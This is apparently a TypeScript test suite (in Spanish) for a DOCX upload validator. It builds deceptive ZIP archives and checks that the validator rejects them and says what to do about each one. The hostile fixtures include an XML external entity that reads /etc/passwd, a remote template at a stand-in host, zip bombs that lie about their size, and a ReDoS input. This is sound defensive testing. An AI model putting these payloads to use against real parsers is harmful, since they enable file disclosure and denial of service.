import { deflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { leerDocx } from './docx-entrante.ts';

interface Entrada {
  nombre: string;
  texto: string | Buffer;
  /** Size declared, when it lies. */
  declarado?: number;
}

/** A ZIP written by hand, so that it can lie. */
function zip(entradas: readonly Entrada[]): Buffer {
  const locales: Buffer[] = [];
  const centrales: Buffer[] = [];
  let en = 0;
  for (const { nombre, texto, declarado } of entradas) {
    const crudo = Buffer.isBuffer(texto) ? texto : Buffer.from(texto);
    const comprimido = deflateRawSync(crudo);
    const n = Buffer.from(nombre);
    const comun = Buffer.alloc(26);
    comun.writeUInt16LE(20, 0);
    comun.writeUInt16LE(8, 4);
    comun.writeUInt32LE(comprimido.length, 14);
    comun.writeUInt32LE(declarado ?? crudo.length, 18);
    comun.writeUInt16LE(n.length, 22);
    const local = Buffer.concat([Buffer.from([0x50, 0x4b, 3, 4]), comun, n, comprimido]);
    const cola = Buffer.alloc(14);
    cola.writeUInt32LE(en, 10);
    centrales.push(Buffer.concat([Buffer.from([0x50, 0x4b, 1, 2, 20, 0]), comun, cola, n]));
    locales.push(local);
    en += local.length;
  }
  const central = Buffer.concat(centrales);
  const fin = Buffer.alloc(22);
  fin.writeUInt32LE(0x06054b50, 0);
  fin.writeUInt16LE(entradas.length, 8);
  fin.writeUInt16LE(entradas.length, 10);
  fin.writeUInt32LE(central.length, 12);
  fin.writeUInt32LE(en, 16);
  return Buffer.concat([...locales, central, fin]);
}

const TIPOS = {
  nombre: '[Content_Types].xml',
  texto:
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
};
const RELS = {
  nombre: '_rels/.rels',
  texto:
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
};
const cuerpo = (texto: string, antes = ''): Entrada => ({
  nombre: 'word/document.xml',
  texto: `<?xml version="1.0"?>${antes}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${texto}</w:t></w:r></w:p></w:body></w:document>`,
});
const docx = (...otras: Entrada[]): Buffer => zip([TIPOS, RELS, cuerpo('Hola'), ...otras]);

describe('DOCX devuelto', () => {
  it('se lee por párrafos', async () => {
    expect(await leerDocx(docx(), 'acta.docx')).toEqual({ lineas: ['Hola'] });
  });

  it.each([
    ['un PDF con nombre de DOCX', Buffer.from('%PDF-1.7 hola'), /no es un documento de Word/],
    ['un texto', Buffer.from('hola'), /no es un documento de Word/],
    ['un ZIP que no es DOCX', zip([{ nombre: 'a.txt', texto: 'hola' }]), /no es un documento DOCX/],
    ['un DOCX cortado', docx().subarray(0, 200), /incompleto o dañado/],
    ['macros', docx({ nombre: 'word/vbaProject.bin', texto: 'x' }), /macros/],
    ['un objeto incrustado', docx({ nombre: 'word/embeddings/oleObject1.bin', texto: 'x' }), /objeto incrustado/],
    ['entidades externas', zip([TIPOS, RELS, cuerpo('&x;', '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>')]), /entidades/],
    [
      'entidades externas en UTF-16',
      zip([
        TIPOS,
        RELS,
        { nombre: 'word/document.xml', texto: Buffer.from('\ufeff<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY x "y">]><d>&x;</d>', 'utf16le') },
      ]),
      /entidades/,
    ],
    [
      'una plantilla de otro servidor',
      docx({
        nombre: 'word/_rels/settings.xml.rels',
        texto:
          '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://mal.example/a.dotm" TargetMode="External"/></Relationships>',
      }),
      /otro servidor/,
    ],
    ['una bomba que declara su tamaño', docx({ nombre: 'word/media/a.xml', texto: Buffer.alloc(60 * 1024 * 1024) }), /dañado, o se expande/],
    [
      'una bomba que miente sobre su tamaño',
      docx({ nombre: 'word/media/a.xml', texto: Buffer.alloc(60 * 1024 * 1024), declarado: 100 }),
      /dañado, o se expande/,
    ],
    ['XML roto', zip([TIPOS, RELS, { nombre: 'word/document.xml', texto: '<w:document><w:body>' }]), /no se puede leer|dañado/],
  ])('rechaza %s y dice qué hacer', async (_que, bytes, motivo) => {
    const r = await leerDocx(bytes, 'acta.docx');
    expect(r).toMatchObject({ motivo: expect.stringMatching(motivo), remedio: expect.stringMatching(/\S/) });
  });
});

describe('Relaciones hostiles', () => {
  it('un megabyte de marcas sin cerrar no detiene el servidor (ReDoS)', async () => {
    const antes = performance.now();
    await leerDocx(docx({ nombre: 'word/_rels/x.rels', texto: 'frame"'.repeat(170_000) }), 'a.docx');
    expect(performance.now() - antes).toBeLessThan(3_000);
  });
});
